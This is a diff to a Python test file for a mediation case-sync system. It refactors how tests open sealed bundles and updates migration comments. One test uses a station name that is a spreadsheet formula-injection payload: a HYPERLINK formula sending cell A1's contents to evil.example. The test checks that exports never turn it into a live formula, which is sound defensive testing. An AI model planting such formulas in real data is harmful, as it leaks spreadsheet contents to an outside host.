@@ -17,7 +17,7 @@ from app.sync.county_import import import_bundles
 from app.sync.receipts import import_receipt
 from db.models import SentBundle
 from tests.conftest import Db, accept, full_case_record, register
-from tests.sync.conftest import content, export, link, open_bundle, seal, snapshot
+from tests.sync.conftest import content, export, link, open_bundle, open_payload, seal, snapshot
 
 CODE = "330101001"
 
@@ -179,13 +179,7 @@ def test_a_blank_scanned_page_that_compresses_229_to_1_is_taken(db, county_db, t
                               store=AttachmentStore.beside(db.path), files=[scan])
     link(db, county_db, tmp_path)
     bundle = export(db, tmp_path / "out")
-    from app.sync import county as county_service
-    from app.sync.envelope import open_sealed
-
-    with county_db.read() as s:
-        key = county_service.agreement_key(county_service.identity(s))
-    payload = open_sealed(bundle.path.read_bytes(), station_key=bundle_signer(bundle.path),
-                          county_agreement_key=lambda: key)
+    payload = open_payload(county_db, bundle.path)
     [info] = [i for i in zipfile.ZipFile(io.BytesIO(payload)).infolist() if i.filename.startswith("attachments/")]
     assert info.file_size / info.compress_size > 200             # what the ratio check of before refused
     [report] = import_bundles(county_db.write, [bundle.path])
@@ -193,12 +187,6 @@ def test_a_blank_scanned_page_that_compresses_229_to_1_is_taken(db, county_db, t
     with county_db.read() as s:
         from db.models import CountyFile
         assert s.get(CountyFile, hashlib.sha256(page).hexdigest()).data == bytes(page)
-
-
-def bundle_signer(path) -> str:
-    from app.sync.envelope import read_header
-
-    return read_header(path.read_bytes())[0].signer
 
 
 def test_a_refused_bundles_reason_reaches_the_station(head_login, county_db, tmp_path, monkeypatch, capsys):
@@ -224,14 +212,17 @@ def test_a_refused_bundles_reason_reaches_the_station(head_login, county_db, tmp
     assert result.status == "refused" and result.note == report.message
 
 
-def test_a_station_name_never_becomes_a_formula_in_the_countys_spreadsheets(county_db, cli_env, tmp_path):
+def test_a_station_name_never_becomes_a_formula_in_the_countys_spreadsheets(county_db, cli_env, tmp_path,
+                                                                             monkeypatch):
     """The committee's name as its own bundle carries it, in `county stats --by station` as xlsx and CSV."""
     from openpyxl import load_workbook
 
     from app.services import accounts
     from tests.conftest import CLI_PASSWORD, CLI_USER
+    from tests.sync.conftest import PASSPHRASE
     from ui.cli import main
 
+    monkeypatch.setenv("MEDIATION_COUNTY_PASSPHRASE", PASSPHRASE)
     name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     station = second_station(tmp_path, "330101007", name)
     register(station, title="邻里纠纷")
@@ -260,10 +251,10 @@ def test_a_provision_received_before_owners_goes_to_the_station_that_sends_it_ag
     assert import_bundles(county_db.write, [bundle.path])[0].status == "applied"
     from sqlalchemy import text
 
-    with county_db.write.begin() as s:                        # as 0009 leaves what came before it
+    with county_db.write.begin() as s:                        # as 0010 leaves what came before it
         s.execute(text("UPDATE legal_provision SET station_id = NULL"))
     [provision] = lines(open_bundle(county_db, bundle.path), "legal_provision")
-    with db.write.begin() as s:                               # as 0009 does at the station
+    with db.write.begin() as s:                               # as 0010 does at the station
         s.execute(text("UPDATE legal_provision SET revision = revision + 1"))
     [report] = import_bundles(county_db.write, [export(db, tmp_path / "out").path])
     assert report.status == "applied" and report.outcome["updated"] == 1, report.message
